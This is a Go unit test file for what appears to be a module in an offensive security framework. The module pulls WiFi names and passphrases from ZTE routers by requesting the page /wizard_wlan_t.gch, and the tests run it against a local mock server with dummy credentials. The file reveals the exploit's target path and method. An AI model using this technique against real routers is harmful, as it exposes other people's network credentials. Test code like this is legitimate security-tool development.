package main

import (
	"bytes"
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/fatih/color"

	"alaqsa/pkg/module"
)

const wizardPage = `<script>
Transfer_meaning('ESSID','HomeNet');
Transfer_meaning('ESSID','');
Transfer_meaning('KeyPassphrase','s3cr3t-pass');
</script>`

func init() {
	color.NoColor = true
}

func newTestModule(t *testing.T, handler http.HandlerFunc) (*zteWifiDisclosure, *bytes.Buffer) {
	t.Helper()
	srv := httptest.NewServer(handler)
	t.Cleanup(srv.Close)
	u, err := url.Parse(srv.URL)
	if err != nil {
		t.Fatalf("parse server url: %v", err)
	}
	host, port, err := net.SplitHostPort(u.Host)
	if err != nil {
		t.Fatalf("split host: %v", err)
	}
	m := GetPlugin().(*zteWifiDisclosure)
	out := &bytes.Buffer{}
	m.out = out
	m.client = srv.Client()
	m.Set("rhost", host)
	m.Set("rport", port)
	return m, out
}

func TestGetPluginDefaults(t *testing.T) {
	var m module.Module = GetPlugin()
	if got := module.Display(m, "rport"); got != "80" {
		t.Fatalf("expected default rport 80, got %q", got)
	}
	if got := module.Display(m, "rhost"); got != module.Null {
		t.Fatalf("rhost must be unset, got %q", got)
	}
	opts := m.Options()
	if len(opts) != 2 || opts[0].Key != "rport" || !opts[0].Optional || opts[1].Key != "rhost" || opts[1].Optional {
		t.Fatalf("unexpected options: %#v", opts)
	}
	if !strings.Contains(m.Describe(), "ZTE") {
		t.Fatalf("unexpected description: %q", m.Describe())
	}
}

func TestExecuteWithoutRhost(t *testing.T) {
	err := GetPlugin().Execute(context.Background())
	if err == nil || !strings.Contains(err.Error(), "rhost was not set") {
		t.Fatalf("expected rhost error, got %v", err)
	}
}

func TestExecuteDisclosesCredentials(t *testing.T) {
	var gotPath string
	m, out := newTestModule(t, func(w http.ResponseWriter, r *http.Request) {
		gotPath = r.URL.Path
		_, _ = w.Write([]byte(wizardPage))
	})
	if err := m.Execute(context.Background()); err != nil {
		t.Fatalf("execute: %v", err)
	}
	if gotPath != "/wizard_wlan_t.gch" {
		t.Fatalf("unexpected request path: %s", gotPath)
	}
	if !strings.Contains(out.String(), "ESSID: HomeNet") || !strings.Contains(out.String(), "PASSW: s3cr3t-pass") {
		t.Fatalf("unexpected output: %q", out.String())
	}
	if strings.Count(out.String(), "ESSID:") != 1 {
		t.Fatalf("empty ESSID must be skipped: %q", out.String())
	}
}

func TestExecuteNoCredentials(t *testing.T) {
	m, out := newTestModule(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("<html>login</html>"))
	})
	if err := m.Execute(context.Background()); err != nil {
		t.Fatalf("page without credentials is not a failure: %v", err)
	}
	if strings.Contains(out.String(), "ESSID:") || !strings.Contains(out.String(), "no wifi credentials") {
		t.Fatalf("unexpected output: %q", out.String())
	}
}

func TestExecuteUnreachable(t *testing.T) {
	m, _ := newTestModule(t, func(w http.ResponseWriter, r *http.Request) {})
	m.Set("rport", "1")
	m.Set("rhost", "127.0.0.1")
	if err := m.Execute(context.Background()); err == nil {
		t.Fatalf("expected connection error")
	}
}
